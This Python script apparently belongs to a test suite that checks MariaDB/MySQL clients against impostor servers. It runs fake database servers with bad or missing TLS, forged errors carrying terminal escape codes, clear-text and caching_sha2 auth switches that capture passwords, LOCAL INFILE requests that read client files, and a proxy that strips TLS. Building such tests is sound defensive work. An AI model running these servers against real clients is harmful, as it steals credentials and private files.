"""Servers that stand in the way of a login, each with its own attack and on its own port.

    impostor.py FOLDER ADDRESS [REAL-PORT]

FOLDER/tls holds the certificates of mariadb_make_certificates.  FOLDER/ports gets a line "PORT
ATTACK" for each attack; the servers then run until they are killed.  What a client sent to one of
them is in FOLDER/got/ATTACK, decrypted where it came by TLS; a password that could be had from it
stands there as "password: ".  With REAL-PORT there is also a proxy in front of the real server there.
"""

import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

from hostile import AUTH_SWITCH, FILE_REQUEST, OK, Server

TLS = 0x0800
SALT = b"abcdefghijklmnopqrst"
REAL = "TLS taken out"

# By the words of the page's table: the certificate ("" for no TLS), and what is done.
ATTACKS = {
    "the right server": ("server", {}),
    "another host": ("wrong-host", {}),
    "another CA": ("other-server", {}),
    "expired": ("expired", {}),
    "not yet valid": ("not-yet", {}),
    "self-signed": ("self-signed", {}),
    "revoked, ssl_crl": ("revoked", {}),
    "no TLS": ("", {}),
    "only TLS 1.0": ("server", {"version": ssl.TLSVersion.TLSv1}),
    "only TLS 1.1": ("server", {"version": ssl.TLSVersion.TLSv1_1}),
    "words before TLS": ("server", {"behind": True}),
    "error 1040 before TLS": ("server", {"first": 1040}),
    "error 1045 before TLS": ("server", {"first": 1045}),
    "error for handshake": ("server", {"handshake": 1045}),
    "handshake cut off": ("server", {"cut": 0}),
    "handshake stalls": ("server", {"cut": 10}),
    "error after handshake": ("server", {"answer": 1045}),
    "clear text, no TLS": ("", {"switch": b"mysql_clear_password"}),
    "clear text, other CA": ("other-server", {"switch": b"mysql_clear_password"}),
    "clear text": ("server", {"switch": b"mysql_clear_password"}),
    "unknown method": ("server", {"switch": b"no_such_password"}),
    "sha2, no TLS": ("", {"switch": b"caching_sha2_password"}),
    "sha2, another CA": ("other-server", {"switch": b"caching_sha2_password"}),
    "sha2, another host": ("wrong-host", {"switch": b"caching_sha2_password"}),
    "sha2": ("server", {"switch": b"caching_sha2_password"}),
    "file for rows": ("server", {"execute": [FILE_REQUEST, "asked"], "load": FILE_REQUEST}),
    "file at login": ("server", {"login": [FILE_REQUEST, "asked"]}),
}


def error(number):
    return b"\xff" + struct.pack("<H", number) + b"#08S01forged\x1b[31m text"


class Impostor(Server):
    def __init__(self, connection, folder, name):
        certificate, deeds = ATTACKS[name]
        super().__init__(connection, deeds, may_compress=False)
        self.folder, self.certificate = folder, certificate
        self.got = open(os.path.join(folder, "got", name), "ab", buffering=0)
        self.rsa = os.path.join(folder, "tls", "rsa")

    def take(self, size):
        data = super().take(size)
        self.got.write(data)
        return data

    def start_tls(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        base = os.path.join(self.folder, "tls", self.certificate)
        context.load_cert_chain(base + ".pem", base + ".key")
        context.verify_mode = ssl.CERT_OPTIONAL
        context.load_verify_locations(os.path.join(self.folder, "tls", "ca.pem"))
        if "version" in self.lie:
            context.set_ciphers("ALL:@SECLEVEL=0")
            context.minimum_version = ssl.TLSVersion.TLSv1
            context.maximum_version = self.lie["version"]
        self.connection = context.wrap_socket(self.connection, server_side=True)
        if self.connection.getpeercert():
            self.got.write(b"\nthe client's certificate\n")

    def greet(self):
        if "first" in self.lie:
            self.send(error(self.lie["first"]))
            raise EOFError
        can = 0x81BFF7DF & ~TLS & ~(1 << 24)  # no results without an end
        if self.certificate:
            can |= TLS
        greeting = b"".join([b"\x0a10.11.6-MariaDB\0", struct.pack("<I", 1), SALT[:8], b"\0",
                             struct.pack("<HBHH", can & 0xFFFF, 45, 2, can >> 16), b"\x15",
                             b"\0" * 10, SALT[8:], b"\0mysql_native_password\0"])
        if "behind" in self.lie:  # in one segment, as if it were the answer to a login
            self.connection.sendall(struct.pack("<I", len(greeting)) + greeting +
                                    struct.pack("<I", len(OK) | 3 << 24) + OK)
            self.number += 1
        else:
            self.send(greeting)
        packet = self.receive()
        if self.certificate and len(packet) == 32:
            if "handshake" in self.lie:
                self.send(error(self.lie["handshake"]))
                raise EOFError
            if "cut" in self.lie:
                time.sleep(self.lie["cut"])
                raise EOFError
            self.start_tls()
            self.receive()
        self.log_in()

    def log_in(self):
        for moment in ("handshake", "answer"):
            if moment in self.lie:
                self.send(error(self.lie[moment]))
                raise EOFError
        if "switch" in self.lie:
            self.send(AUTH_SWITCH + self.lie["switch"] + b"\0" + SALT + b"\0")
            answer = self.receive()
            if self.lie["switch"] == b"caching_sha2_password":
                self.ask_whole_password()
            elif answer.rstrip(b"\0"):
                self.learn(answer)
        self.answer("login", [OK])

    def ask_whole_password(self):
        self.send(b"\1\4")
        answer = self.receive()
        if answer == b"\2":  # it will be encrypted for whoever owns this key
            with open(self.rsa + ".pem", "rb") as key:
                self.send(b"\1" + key.read())
            mixed = subprocess.run(["openssl", "pkeyutl", "-decrypt", "-inkey", self.rsa + ".key",
                                    "-pkeyopt", "rsa_padding_mode:oaep"], input=self.receive(),
                                   stdout=subprocess.PIPE, check=True).stdout
            answer = bytes(c ^ SALT[i % len(SALT)] for i, c in enumerate(mixed))
        self.learn(answer)

    def learn(self, answer):
        self.got.write(b"\npassword: " + answer.rstrip(b"\0") + b"\n")

    def query(self, sql):
        if "load" in self.lie and b"GET_LOCK" in sql:  # a target's
            self.send(self.lie["load"])
            self.learn_file()
        super().query(sql)

    def send(self, packet):
        if packet == "asked":
            self.learn_file()
        super().send(packet)

    def learn_file(self):
        content = self.receive()
        if content:
            self.got.write(b"\nfile: " + content + b"\n")
        raise EOFError


def strip_offer(client, folder, real):
    """The real server's greeting without its offer of TLS; all else as it comes."""
    server = socket.create_connection(real)
    greeting = bytearray(server.recv(4096))
    place = greeting.index(0, 5) + 1 + 4 + 8 + 1
    greeting[place + 1] &= ~(TLS >> 8)
    client.sendall(greeting)

    def back():
        while data := server.recv(65536):
            client.sendall(data)
        client.shutdown(socket.SHUT_WR)

    threading.Thread(target=quietly, args=(back,), daemon=True).start()
    with open(os.path.join(folder, "got", REAL), "ab", buffering=0) as got, server:
        while data := client.recv(65536):
            got.write(data)
            server.sendall(data)


def quietly(deed, *arguments):
    try:
        deed(*arguments)
    except (EOFError, OSError):
        pass


def serve(connection, folder, name, real):
    connection.settimeout(30)
    with connection:
        if name == REAL:
            quietly(strip_offer, connection, folder, real)
        else:
            quietly(Impostor(connection, folder, name).serve)


def listen(listener, folder, name, real):
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=serve, args=(connection, folder, name, real), daemon=True).start()


def main():
    folder, address = sys.argv[1:3]
    real = (address, int(sys.argv[3])) if len(sys.argv) > 3 else None
    os.makedirs(os.path.join(folder, "got"), exist_ok=True)
    lines, threads = [], []
    for name in list(ATTACKS) + ([REAL] if real else []):
        listener = socket.create_server((address, 0))
        lines.append(f"{listener.getsockname()[1]} {name}\n")
        threads.append(threading.Thread(target=listen, args=(listener, folder, name, real), daemon=True))
    for thread in threads:
        thread.start()
    with open(os.path.join(folder, "ports.new"), "w", encoding="ascii") as ports:
        ports.writelines(lines)
    os.rename(os.path.join(folder, "ports.new"), os.path.join(folder, "ports"))
    threads[0].join()


main()
